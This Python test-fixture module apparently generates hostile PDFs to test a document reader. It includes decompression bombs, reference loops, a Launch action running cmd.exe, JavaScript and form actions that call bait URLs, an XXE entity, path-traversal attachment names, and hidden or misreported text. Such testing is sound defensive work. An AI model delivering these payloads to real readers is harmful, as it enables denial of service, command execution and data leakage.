"""Hostile PDF files."""

from __future__ import annotations

import zlib

from hostile.bait import Bait, Poison
from reading.samples import flate_bomb, make_pdf, page_pdf, raw_pdf, stream

GOOD = b"BT /F 12 Tf 50 150 Td (Twelve crates) Tj ET"
LONGEST = 1 << 20


def repeated(block: bytes, times: int) -> bytes:
    """Return `block` `times` over, deflated, without ever holding it whole."""
    packer = zlib.compressobj(9)
    start = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    return start + again * (times - 1) + b"\x01\0\0\xff\xff"


def flate_page(*layers: bytes, content: bytes, resources: bytes = b"") -> bytes:
    return raw_pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>"
        + resources
        + b">>>>",
        b"<</Filter[%s]/Length %d>>stream\n" % (b"".join(layers), len(content)) + content + b"\nendstream",
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    )


def squared(_: Bait) -> bytes:
    """Pack four gigabytes of operators behind two layers of Flate, in some kilobytes."""
    inner = repeated(b"0 0 m\n" * 174_763, 4096)
    return flate_page(b"/FlateDecode", b"/FlateDecode", content=zlib.compress(inner, 9))


def operators(_: Bait) -> bytes:
    text = b"BT /F 12 Tf 50 150 Td " + b"(x) Tj " * 2_000_000 + b" ET"
    return flate_page(b"/FlateDecode", content=zlib.compress(text, 9))


def tree(*kids: bytes, catalogue: bytes = b"", count: bytes = b"1") -> bytes:
    """Return a PDF whose objects from 3 on are `kids`; the first page tree node names object 3."""
    return raw_pdf(
        b"<</Type/Catalog/Pages 2 0 R" + catalogue + b">>", b"<</Type/Pages/Kids[3 0 R]/Count " + count + b">>", *kids
    )


def page(extra: bytes = b"", parent: bytes = b"2 0 R", contents: bytes = b"4 0 R") -> bytes:
    return (
        b"<</Type/Page/Parent " + parent + b"/MediaBox[0 0 300 200]/Contents " + contents
        + b"/Resources<</Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>" + extra + b">>"
    )  # fmt: skip


def chain(depth: int) -> bytes:
    nodes = [b"<</Type/Pages/Parent %d 0 R/Kids[%d 0 R]/Count 1>>" % (n - 1, n + 1) for n in range(3, 3 + depth)]
    return tree(*nodes, page(parent=b"%d 0 R" % (2 + depth), contents=b"%d 0 R" % (4 + depth)), stream(GOOD))


def active(bait: Bait) -> bytes:
    """Do everything that a PDF can do when it is opened, closed, or clicked."""
    act = b"<</S/JavaScript/JS(app.launchURL\\('%s'\\))>>" % bait.http.encode()
    launch = b"<</S/Launch/F(%s)/Win<</F(cmd.exe)/P(/c %s)>>>>" % ((str(bait.file).encode(),) * 2)
    annotations = b"".join(
        b"<</Type/Annot/Subtype/Link/Rect[0 0 300 200]/A %s>>" % one
        for one in (
            b"<</S/URI/URI(%s)>>" % bait.http.encode(), b"<</S/URI/URI(%s)>>" % bait.url.encode(), launch,
            b"<</S/GoToR/F(%s)/D[0/Fit]>>" % str(bait.file).encode(), b"<</S/GoToR/F(//%s/share/a.pdf)>>" % b"h",
            b"<</S/SubmitForm/F<</FS/URL/F(%s)>>>>" % bait.http.encode(),
            b"<</S/ImportData/F(%s)>>" % str(bait.file).encode(),
            b"<</S/Rendition/OP 0/JS(app.alert\\(1\\))>>",
        )
    )  # fmt: skip
    return raw_pdf(
        b"<</Type/Catalog/Pages 2 0 R/OpenAction %s/AA<</WC %s/DS %s>>/Names<</JavaScript<</Names[(a) %s]>>>>>>"
        % (act, act, launch, act),
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        page(b"/AA<</O %s/C %s>>/Annots[%s]" % (launch, act, annotations)),
        stream(GOOD),
    )


def outside(bait: Bait) -> bytes:
    """Name streams, form and image whose bytes are said to lie in another file."""
    path = str(bait.file).encode()
    return raw_pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents[4 0 R 7 0 R]/Resources<</XObject<</I 5 0 R/R 6 0 R>>"
        b"/Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>>>",
        stream(GOOD + b" /I Do /R Do"),
        b"<</Type/XObject/Subtype/Image/Width 1/Height 1/ColorSpace/DeviceRGB/BitsPerComponent 8/Length 0/F(%s)>>stream"
        b"\n\nendstream" % str(bait.picture).encode(),
        b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F(%s)/Page 0>>/Length 0>>stream\n\nendstream" % path,
        b"<</Length 0/F<</FS/URL/F(%s)>>/FFilter/FlateDecode>>stream\n\nendstream" % bait.url.encode(),
    )


def xfa(bait: Bait) -> bytes:
    form = b'<!DOCTYPE x [<!ENTITY e SYSTEM "%s">]><xdp>&e;</xdp>' % bait.url.encode()
    return tree(page(), stream(GOOD), stream(form), catalogue=b"/AcroForm<</Fields[]/XFA 5 0 R>>")


def nested_files(levels: int) -> bytes:
    """Attach a PDF to a PDF, and so on; the names climb out of folders."""
    data = make_pdf(("The innermost.",))
    for level in range(levels):
        name = (b"../../level.pdf", b"CON", b"a\\\\b\\\\..\\\\c.pdf", b"C:\\\\windows\\\\x.exe")[level % 4]
        data = tree(
            page(), stream(GOOD), stream(data),
            b"<</Type/Filespec/F(%s)/EF<</F 5 0 R>>>>" % name,
            catalogue=b"/Names<</EmbeddedFiles<</Names[(a) 6 0 R]>>>>",
        )  # fmt: skip
    return data


def loop_of_tables(_: Bait) -> bytes:
    data = make_pdf()
    start = data.rindex(b"startxref") + 10
    return data.replace(b"/Root", b"/Prev %s/Root" % data[start:].split(b"\n")[0])


def loop_of_forms(_: Bait) -> bytes:
    form = b"<</Type/XObject/Subtype/Form/BBox[0 0 99 99]/Resources<</XObject<</A %d 0 R/B %d 0 R>>>>/Length 11>>"
    body = b"stream\n/A Do /B Do\nendstream"
    return raw_pdf(
        b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R/Resources<</XObject<</A 5 0 R/B 6 0 R>>>>>>",
        stream(b"/A Do"), form % (5, 6) + body, form % (6, 5) + body,
    )  # fmt: skip


def doubling_forms(_: Bait) -> bytes:
    """Chain forty forms, each drawing the next one twice: a million million letters in three kilobytes."""
    forms = [
        b"<</Type/XObject/Subtype/Form/BBox[0 0 99 99]/Resources<</XObject<</A %d 0 R>>>>/Length 11>>stream\n"
        b"/A Do /A Do\nendstream" % (n + 1)
        for n in range(5, 45)
    ]
    last = b"<</Type/XObject/Subtype/Form/BBox[0 0 99 99]/Length 9>>stream\n0 0 9 9 re f\nendstream"
    return raw_pdf(
        b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R/Resources<</XObject<</A 5 0 R>>>>>>",
        stream(b"/A Do"), *forms, last,
    )  # fmt: skip


def large_image(_: Bait) -> bytes:
    data = repeated(bytes(LONGEST), 2048)
    return raw_pdf(
        b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R/Resources<</XObject<</I 5 0 R>>>>>>",
        stream(b"300 0 0 200 0 0 cm /I Do"),
        b"<</Type/XObject/Subtype/Image/Width 60000/Height 60000/ColorSpace/DeviceRGB/BitsPerComponent 8"
        b"/Filter/FlateDecode/Length %d>>stream\n" % len(data) + data + b"\nendstream",
    )  # fmt: skip


def bad_parts(_: Bait) -> bytes:
    """Return a PDF with a font program, an ICC profile and pictures that are no such things."""
    noise = bytes(n * 37 % 251 for n in range(5000))
    image = b"<</Type/XObject/Subtype/Image/Width 9/Height 9/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/%s/Length "
    pictures = [image % kind + b"5000>>stream\n" + noise + b"\nendstream" for kind in (b"JPXDecode", b"JBIG2Decode")]
    return raw_pdf(
        b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>"
        b"/XObject<</A 8 0 R/B 9 0 R>>/ColorSpace<</C[/ICCBased 7 0 R]>>>>>>",
        stream(b"/C cs 1 1 1 sc /A Do /B Do " + GOOD),
        b"<</Type/Font/Subtype/TrueType/BaseFont/Odd/FirstChar 0/LastChar 255/FontDescriptor 6 0 R>>",
        b"<</Type/FontDescriptor/FontName/Odd/Flags 4/FontFile2 7 0 R>>",
        stream(noise), *pictures,
    )  # fmt: skip


def lies(_: Bait) -> bytes:
    """Show `Twelve` while the ToUnicode table says something else."""
    table = b"".join(b"<%02X> <%04X>\n" % (ord(a), ord(b)) for a, b in zip("Twelv", "Eighy", strict=True))
    return page_pdf(b"BT /F 12 Tf 50 150 Td (Twelve) Tj ET", unicode_map=table)


def wide_table(_: Bait) -> bytes:
    """Give a ToUnicode table that maps one letter to halves of characters, NUL and 500 letters."""
    table = b"<41> <D800>\n<42> <0000>\n<43> <" + b"0041" * 500 + b">\n<44> <DBFFDFFF>\n<45> <FFFE>\n"
    return page_pdf(b"BT /F 12 Tf 50 150 Td (ABCDE) Tj ET", unicode_map=table)


def hidden(_: Bait) -> bytes:
    return page_pdf(
        b"BT /F 12 Tf 50 150 Td (Seen words) Tj 1 1 1 rg 0 -20 Td (White words) Tj 3 Tr 0 -20 Td (Unpainted words) Tj "
        b"0 Tr 0 g 900 0 Td (Far words) Tj ET"
    )


def many_kids(_: Bait) -> bytes:
    kids = b"3 0 R " * 1_000_000
    return raw_pdf(
        b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[%s]/Count 1000000>>" % kids, page(), stream(GOOD)
    )


def encrypted(_: Bait) -> bytes:
    return make_pdf(password="secret")


def cut(_: Bait) -> bytes:
    return make_pdf(pages=5)[:-700]


def image_name(_: Bait) -> bytes:
    return make_pdf()


POISONS = (
    Poison("flate-squared.pdf", squared, ends="unread"),
    Poison("flate.pdf", lambda _: flate_bomb(1 << 30), slow=True, ends="unread"),
    Poison("operators.pdf", operators, slow=True),
    Poison("page-loop.pdf", lambda _: tree(b"<</Type/Pages/Parent 2 0 R/Kids[2 0 R]/Count 1>>")),
    Poison("page-chain.pdf", lambda _: chain(5000)),
    Poison("deep-array.pdf", lambda _: tree(page(b"/X" + b"[" * 200_000 + b"]" * 200_000), stream(GOOD))),
    Poison("deep-content.pdf", lambda _: page_pdf(b"<<" * 50_000 + b"[" * 50_000 + GOOD)),
    Poison("cut.pdf", cut),
    Poison("locked.pdf", encrypted, ends="unread", tells=("password",)),
    Poison("photo.jpg", image_name, ends="read", says=("Twelve crates at Rajin.",)),
    Poison("words.pdf", lambda _: b"These are words, no PDF.\n", ends="read", says=("These are words",)),
    Poison("active.pdf", active, ends="read", says=("Twelve crates",), tells=("JavaScript", "Launch")),
    Poison("outside.pdf", outside, ends="read", says=("Twelve crates",)),
    Poison("form.pdf", xfa, ends="read", says=("Twelve crates",)),
    Poison("matryoshka.pdf", lambda _: nested_files(12), ends="read", tells=("embedded files",)),
    Poison("count.pdf", lambda _: tree(page(), stream(GOOD), count=b"1000000"), slow=True),
    Poison("kids.pdf", many_kids, slow=True),
    Poison("vast-page.pdf", lambda _: page_pdf(GOOD, page=b"/MediaBox[0 0 1000000000 1000000000]")),
    Poison("no-page.pdf", lambda _: page_pdf(GOOD, page=b"/MediaBox[0 0 -1 0]/UserUnit 1e30/Rotate 91")),
    Poison("lies.pdf", lies, ends="read", says=("Eighyg",)),
    Poison("wide-table.pdf", wide_table, ends="read"),
    Poison("hidden.pdf", hidden, ends="read", says=("Seen words",)),
    Poison("tables.pdf", loop_of_tables),
    Poison("size.pdf", lambda _: make_pdf().replace(b"/Size ", b"/Size 2147483647 %")),
    Poison("length.pdf", lambda _: tree(page(), b"<</Length 4 0 R>>stream\n" + GOOD + b"\nendstream")),
    Poison("forms.pdf", loop_of_forms, slow=True),
    Poison("doubling.pdf", doubling_forms, slow=True),
    Poison("large-image.pdf", large_image),
    Poison("bad-parts.pdf", bad_parts),
    Poison("giant.pdf", lambda _: page_pdf(b"1e30 0 0 1e30 0 0 cm BT /F 1e9 Tf 1 1 Td (Twelve crates) Tj ET")),
    Poison("header-only.pdf", lambda _: b"%PDF-1.7\n", ends="unread"),
    Poison(
        "not-a-number.pdf", lambda _: page_pdf(b"BT /F 12 Tf nan inf Td (x) Tj 99999999999999999999 0 Td (y) Tj ET")
    ),
)
